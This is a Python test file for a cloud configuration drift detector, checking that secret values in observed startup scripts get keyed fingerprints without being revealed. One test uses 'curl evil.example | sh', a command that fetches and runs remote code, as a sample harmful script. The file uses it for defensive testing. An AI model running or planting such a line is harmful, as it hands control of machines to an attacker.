"""A fingerprint tells one secret from another, and tells nobody which one it is."""

from __future__ import annotations

import hashlib
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from setpoint.adapters.memory.store import MemoryStore
from setpoint.adapters.sqlite.store import SqliteStore
from setpoint.catalog.schemas import default_catalogue
from setpoint.detection import verdict as judging
from setpoint.detection.pipeline import Context
from setpoint.model.declaration import Declaration, desired
from setpoint.model.fleet_rules import Rules
from setpoint.model.observation import Observation
from setpoint.model.policy import Policy, ShownFields
from setpoint.model.resource_key import ResourceKey
from setpoint.model.secrecy import Secrecy, is_hidden

NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)
INSTANCE = ResourceKey("//compute.googleapis.com/projects/shop/zones/europe-west1-b/instances/web", "resource")
TYPE = "compute.googleapis.com/Instance"
KEY = Secrecy(b"k" * 32)
CATALOGUE = default_catalogue()


def script(text: str) -> dict[str, Any]:
    return {"metadata": {"items": [{"key": "startup-script", "value": text}]}}


def judged(declared: Any, observed: Any, secrecy: Secrecy = KEY, rules: Rules = Rules()) -> judging.Verdict:  # noqa: B008
    verdict = judging.judge(
        desired((Declaration(INSTANCE, TYPE, declared),)),
        rules,
        Observation(INSTANCE, TYPE, NOON, data=observed),
        CATALOGUE,
        secrecy=secrecy,
    )
    assert isinstance(verdict, judging.Verdict)
    return verdict


def test_an_accepted_change_of_a_script_does_not_cover_the_next_one() -> None:
    harmless = judged(script("echo a"), script("echo b"))
    harmful = judged(script("echo a"), script("curl evil.example | sh"))
    assert harmless.fingerprint != harmful.fingerprint


@given(st.text(min_size=1, max_size=40), st.text(min_size=1, max_size=40))
def test_two_secrets_never_have_one_fingerprint(first: str, other: str) -> None:
    prints = [judged(script("declared"), script(secret)).fingerprint for secret in (first + "x", other + "x")]
    assert (prints[0] == prints[1]) == (first == other)


def test_a_secret_has_the_same_fingerprint_in_every_process_with_the_key() -> None:
    first, again = (judged(script("a"), script("b"), Secrecy(lambda: b"k" * 32)) for _ in range(2))
    assert first.fingerprint == again.fingerprint == judged(script("a"), script("b")).fingerprint


def test_a_secret_keeps_its_fingerprint_when_its_store_is_opened_again(tmp_path) -> None:
    prints = set()
    for _ in range(2):
        store = SqliteStore(tmp_path / "s.db")
        prints.add(judged(script("a"), script("b"), Context(store, None, None).secrecy).fingerprint)
        store.close()
    assert len(prints) == 1
    assert judged(script("a"), script("b"), Context(MemoryStore(), None, None).secrecy).fingerprint not in prints


def test_a_fingerprint_tells_nothing_to_who_has_not_the_key() -> None:
    secrets = ["hunter2", "letmein", "s3cret", "correct horse"]
    verdict = judged(script("declared"), script("hunter2"))
    guesses = {judged(script("declared"), script(guess), Secrecy(b"other" * 8)).fingerprint for guess in secrets}
    assert verdict.fingerprint not in guesses
    shown = str(verdict.differences)
    for guess in secrets:
        for digest in ("md5", "sha1", "sha256", "blake2b"):
            assert hashlib.new(digest, guess.encode()).hexdigest()[:4] not in shown.rpartition("digest ")[2][:4]


def test_a_fingerprint_of_what_holds_no_secret_is_that_of_earlier_versions() -> None:
    verdict = judged({"machineType": "n1-standard-1"}, {"machineType": "n1-standard-2"}, Secrecy(b"any" * 11))
    assert verdict.fingerprint == judged({"machineType": "n1-standard-1"}, {"machineType": "n1-standard-2"}).fingerprint
    body = b'{"path":"machineType","op":"changed","declared":"n1-standard-1","observed":"n1-standard-2"}'
    assert verdict.fingerprint == hashlib.blake2b(b"modified\n" + body, digest_size=8).hexdigest()


def test_what_is_stored_tells_two_secrets_apart_and_nobody_which_they_are() -> None:
    (difference,) = judged(script("a"), script("b")).differences
    (other,) = judged(script("a"), script("c")).differences
    assert is_hidden(difference.observed)
    assert difference.declared != difference.observed
    assert difference.hidden != other.hidden


@pytest.mark.parametrize(("value", "is_shown"), [("echo b", True), ("export DB_PASSWORD=hunter2", False)])
def test_a_policy_shows_what_it_names_and_no_secret(value: str, is_shown: bool) -> None:
    show = (ShownFields(fields=("metadata.items[*].value",), asset_types=("compute.googleapis.com/*",)),)
    (difference,) = judged(
        {"metadata": {"items": [{"key": "note", "value": "echo a"}]}},
        {"metadata": {"items": [{"key": "note", "value": value}]}},
        rules=Rules(policy=Policy(show=show)),
    ).differences
    assert (difference.observed == value) == is_shown


def test_a_change_at_a_later_time_has_the_same_fingerprint() -> None:
    verdict = judging.judge(
        desired((Declaration(INSTANCE, TYPE, script("a")),)),
        Rules(),
        Observation(INSTANCE, TYPE, NOON + timedelta(days=1), data=script("b")),
        CATALOGUE,
        secrecy=KEY,
    )
    assert isinstance(verdict, judging.Verdict)
    assert verdict.fingerprint == judged(script("a"), script("b")).fingerprint
